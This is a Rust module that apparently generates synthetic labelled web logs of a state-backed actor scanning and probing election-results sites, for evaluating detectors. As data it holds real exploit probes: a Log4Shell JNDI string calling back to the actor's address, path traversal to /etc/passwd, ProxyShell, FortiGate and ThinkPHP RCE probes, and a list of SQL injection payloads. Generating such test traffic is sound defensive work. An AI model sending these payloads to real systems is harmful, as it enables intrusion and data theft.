//! actor-a's activity, after public reports of a state-backed group's
//! "reconnaissance and limited scanning" of election sites: a slow crawl
//! and sensitive-file sweep of six sites within hours, vulnerability scans,
//! exploit probes, scanner tools, admin-panel enumeration, a scan spread
//! over one /24, and an IPv6 sweep. The schedule scales with the period.

use super::catalog::{self, ADMIN_PANELS, NUCLEI, SENSITIVE, SQLMAP};
use super::{Ctx, SITES};
use crate::label::{LabelKind, LabelSpec, Labels, Tag};
use crate::write::addr;
use crate::write::Req;
use rand::seq::SliceRandom;
use rand::Rng;
use rand_chacha::ChaCha8Rng;
use std::borrow::Cow;
use std::net::IpAddr;

/// actor-a's main address (crawl, sweeps, scans, exploits, admin enumeration).
pub(super) const A1: &str = "198.51.100.23";
/// actor-a's second address, running scanner tools.
pub(super) const A2: &str = "203.0.113.45";
/// actor-a's IPv6 address.
pub(super) const A6: &str = "2001:db8:4b1d:7::35";
/// First member of the distributed scan; members are .10 to .17.
const DIST_FIRST: u8 = 10;
const DIST_MEMBERS: u8 = 8;

const ACTOR: &str = "actor-a";
/// A slightly stale desktop browser, as recon tooling often claims to be.
const UA_A1: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/117.0.0.0 Safari/537.36";
const UA_SCAN: &str =
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/116.0.0.0 Safari/537.36";
const UA_LOG4SHELL: &str = "${jndi:ldap://198.51.100.23:1389/Basic/Command/Base64/aWQ=}";

const HOUR: i64 = 3_600_000;
const MINUTE: i64 = 60_000;

/// Exploit probes: (target, status, user agent).
const EXPLOITS: &[(&str, u16, &str)] = &[
    ("/", 200, UA_LOG4SHELL),
    ("/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", 400, UA_A1),
    ("/autodiscover/autodiscover.json?@x.com/owa/?&Email=autodiscover/autodiscover.json%3F@x.com", 404, UA_A1),
    ("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", 404, UA_A1),
    ("/results/search?id=1%27%20UNION%20SELECT%20NULL,NULL,version()--%20-", 500, UA_A1),
    ("/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=1", 404, UA_A1),
];

/// sqlmap payloads appended to a search parameter.
const SQLI: &[&str] = &[
    "",
    "%27",
    "%22",
    "%27%20AND%201%3D1--%20-",
    "%27%20AND%201%3D2--%20-",
    "%29%20AND%207841%3D7841%20AND%20%282211%3D2211",
    "%27%20ORDER%20BY%201--%20-",
    "%27%20ORDER%20BY%2010--%20-",
    "%27%20UNION%20ALL%20SELECT%20NULL--%20-",
    "%27%20UNION%20ALL%20SELECT%20NULL%2CNULL--%20-",
    "%20AND%20SLEEP%285%29",
    "%27%20AND%20SLEEP%285%29--%20-",
    "%27%3BSELECT%20PG_SLEEP%285%29--",
    "%27%20AND%20EXTRACTVALUE%281%2CCONCAT%280x5c%2C0x7171%29%29--%20-",
    "%20OR%201%3D1",
    "%27%20OR%20%27a%27%3D%27a",
    "%27%29%20OR%20%28%271%27%3D%271",
    "%20WAITFOR%20DELAY%20%270%3A0%3A5%27--",
    "%27%20AND%20%28SELECT%201%29%3D1--%20-",
    "%25%27",
    "%27%20RLIKE%20SLEEP%285%29--%20-",
    "%20AND%201%3D1%20UNION%20ALL%20SELECT%201",
];

struct Plan<'a> {
    ctx: Ctx,
    rng: ChaCha8Rng,
    labels: &'a mut Labels,
    out: Vec<Req>,
}

impl Plan<'_> {
    #[allow(clippy::too_many_arguments)]
    fn tag(
        &mut self,
        ip: IpAddr,
        site: usize,
        role: &'static str,
        detector: &'static str,
        technique: &'static str,
        prefix: Option<String>,
    ) -> Tag {
        self.labels.tag(LabelSpec {
            kind: LabelKind::Attack,
            actor: ACTOR,
            role,
            ip,
            site: SITES[site].host,
            detector: Some(detector),
            technique: Some(technique),
            prefix,
        })
    }

    #[allow(clippy::too_many_arguments)]
    fn push(
        &mut self,
        ms: i64,
        ip: IpAddr,
        target: Cow<'static, str>,
        status: u16,
        ua: &'static str,
        site: usize,
        tag: Tag,
    ) {
        let bytes = match status {
            200 => self.rng.gen_range(6_000..48_000),
            403 => 199 + self.rng.gen_range(0..40),
            _ => 196 + self.rng.gen_range(0..40),
        };
        self.out.push(Req {
            ms,
            ip,
            method: "GET",
            target,
            status,
            bytes,
            ua,
            referer: Cow::Borrowed(""),
            site: site as u8,
            tag,
        });
    }

    /// Crawl then sensitive sweep of six sites within a few hours.
    fn recon(&mut self) {
        let ip = addr(A1);
        let day = self.ctx.day_ms(self.ctx.day_at(0.15));
        for (k, site) in [0usize, 1, 2, 3, 4, 5].into_iter().enumerate() {
            let mut t = day + 13 * HOUR + k as i64 * 35 * MINUTE + self.rng.gen_range(0..120_000);
            let tag = self.tag(ip, site, "crawl", "web.crawl", "T1594", None);
            let mut pages = catalog::pages(SITES[site].kind);
            pages.shuffle(&mut self.rng);
            for p in pages.into_iter().take(60) {
                self.push(t, ip, Cow::Owned(p), 200, UA_A1, site, tag);
                t += self.rng.gen_range(1_500..3_000);
            }
            t += self.rng.gen_range(8 * MINUTE..12 * MINUTE);
            self.sweep(t, ip, site, 16);
        }
    }

    /// A sensitive-file sweep of `n` paths in under two minutes; only
    /// `/server-status` answers (403).
    fn sweep(&mut self, mut t: i64, ip: IpAddr, site: usize, n: usize) {
        let tag = self.tag(ip, site, "sensitive", "web.sensitive", "T1595.003", None);
        let mut paths: Vec<&'static str> = SENSITIVE
            .iter()
            .copied()
            .filter(|p| *p != "/server-status")
            .collect();
        paths.shuffle(&mut self.rng);
        paths.truncate(n - 1);
        let at = self.rng.gen_range(0..paths.len());
        paths.insert(at, "/server-status");
        for p in paths {
            let status = if p == "/server-status" { 403 } else { 404 };
            self.push(t, ip, Cow::Borrowed(p), status, UA_A1, site, tag);
            t += self.rng.gen_range(3_000..7_000);
        }
    }

    /// 180 distinct paths in about four minutes, 85% 404.
    fn vuln_scans(&mut self) {
        let ip = addr(A1);
        let day = self.ctx.day_ms(self.ctx.day_at(0.4));
        const FORBIDDEN: &[&str] = &[
            "/cgi-bin/",
            "/icons/",
            "/server-info",
            "/.htaccess",
            "/error/",
            "/manual/",
            "/includes/",
            "/private/",
            "/WEB-INF/web.xml",
        ];
        for (k, site) in [0usize, 2, 4].into_iter().enumerate() {
            let tag = self.tag(ip, site, "scan", "web.scan", "T1595.002", None);
            let mut t = day + 3 * HOUR + k as i64 * 50 * MINUTE + self.rng.gen_range(0..60_000);
            let mut missing = catalog::scan_paths();
            missing.shuffle(&mut self.rng);
            let mut pages = catalog::pages(SITES[site].kind);
            pages.shuffle(&mut self.rng);
            let mut reqs: Vec<(Cow<'static, str>, u16)> = Vec::with_capacity(180);
            reqs.extend(missing.into_iter().take(153).map(|p| (Cow::Owned(p), 404)));
            reqs.extend(pages.into_iter().take(18).map(|p| (Cow::Owned(p), 200)));
            reqs.extend(FORBIDDEN.iter().map(|p| (Cow::Borrowed(*p), 403)));
            reqs.shuffle(&mut self.rng);
            for (p, status) in reqs {
                self.push(t, ip, p, status, UA_SCAN, site, tag);
                t += self.rng.gen_range(800..1_500);
            }
        }
    }

    fn exploits(&mut self) {
        let ip = addr(A1);
        let day = self.ctx.day_ms(self.ctx.day_at(0.6));
        for (k, site) in [1usize, 3].into_iter().enumerate() {
            let tag = self.tag(ip, site, "exploit", "web.exploit", "T1190", None);
            let mut t = day + 6 * HOUR + k as i64 * 25 * MINUTE;
            for &(target, status, ua) in EXPLOITS {
                self.push(t, ip, Cow::Borrowed(target), status, ua, site, tag);
                t += self.rng.gen_range(20_000..60_000);
            }
        }
    }

    fn scanner_tools(&mut self) {
        let ip = addr(A2);
        let day = self.ctx.day_ms(self.ctx.day_at(0.5));
        // Nuclei against Georgia's main site.
        let site = 2;
        let tag = self.tag(ip, site, "scanner_ua", "web.scanner_ua", "T1595.002", None);
        let mut t = day + 8 * HOUR + 40 * MINUTE;
        let mut paths = catalog::scan_paths();
        paths.shuffle(&mut self.rng);
        let mut pages = catalog::pages(SITES[site].kind);
        pages.shuffle(&mut self.rng);
        let mut reqs: Vec<(String, u16)> = paths.into_iter().take(24).map(|p| (p, 404)).collect();
        reqs.extend(pages.into_iter().take(6).map(|p| (p, 200)));
        reqs.shuffle(&mut self.rng);
        for (p, status) in reqs {
            self.push(t, ip, Cow::Owned(p), status, NUCLEI, site, tag);
            t += self.rng.gen_range(1_000..4_000);
        }
        // sqlmap against Ohio's results search.
        let site = 0;
        let tag = self.tag(ip, site, "scanner_ua", "web.scanner_ua", "T1595.002", None);
        let mut t = day + 9 * HOUR + 20 * MINUTE;
        for (i, payload) in SQLI.iter().enumerate() {
            let status = if i % 5 == 3 { 500 } else { 200 };
            let target = format!("/results/search?county=franklin{payload}");
            self.push(t, ip, Cow::Owned(target), status, SQLMAP, site, tag);
            t += self.rng.gen_range(500..6_000);
        }
    }

    fn admin_enum(&mut self) {
        let ip = addr(A1);
        let day = self.ctx.day_ms(self.ctx.day_at(0.7));
        for (k, site) in [5usize, 6].into_iter().enumerate() {
            let tag = self.tag(ip, site, "admin_enum", "web.admin_enum", "T1595.003", None);
            let mut t = day + 10 * HOUR + k as i64 * 40 * MINUTE;
            let kind = SITES[site].kind;
            for &p in ADMIN_PANELS {
                // Panels the site really has answer 200.
                let exists = catalog::admin_session(kind)
                    .iter()
                    .any(|&(m, path, _)| m == "GET" && path == p);
                let status = if exists { 200 } else { 404 };
                self.push(t, ip, Cow::Borrowed(p), status, UA_A1, site, tag);
                t += self.rng.gen_range(10_000..18_000);
            }
        }
    }

    /// Eight members of one /24, six distinct 404s each: below per-source
    /// thresholds, 48 distinct paths together.
    fn distributed(&mut self) {
        let day = self.ctx.day_ms(self.ctx.day_at(0.85));
        let site = 1;
        let mut paths = catalog::scan_paths();
        paths.shuffle(&mut self.rng);
        let mut paths = paths.into_iter();
        let t0 = day + 19 * HOUR + 30 * MINUTE;
        for m in 0..DIST_MEMBERS {
            let ip = IpAddr::from([192, 0, 2, DIST_FIRST + m]);
            let tag = self.tag(
                ip,
                site,
                "distributed_scan",
                "web.scan",
                "T1595.002",
                Some("192.0.2.0/24".to_string()),
            );
            let ua = catalog::BROWSERS[usize::from(m) % catalog::BROWSERS.len()];
            let mut t = t0 + i64::from(m) * 25_000 + self.rng.gen_range(0..5_000);
            for p in paths.by_ref().take(6) {
                self.push(t, ip, Cow::Owned(p), 404, ua, site, tag);
                t += self.rng.gen_range(3_000..8_000);
            }
        }
    }

    fn ipv6_sweep(&mut self) {
        let day = self.ctx.day_ms(self.ctx.day_at(0.3));
        self.sweep(day + 21 * HOUR, addr(A6), 5, 14);
    }
}

/// Every attack request of the period (unsorted), registering their labels.
pub(super) fn plan(ctx: Ctx, labels: &mut Labels) -> Vec<Req> {
    let mut p = Plan {
        ctx,
        rng: ctx.rng(100),
        labels,
        out: Vec::new(),
    };
    p.recon();
    p.vuln_scans();
    p.exploits();
    p.scanner_tools();
    p.admin_enum();
    p.distributed();
    p.ipv6_sweep();
    p.out
}
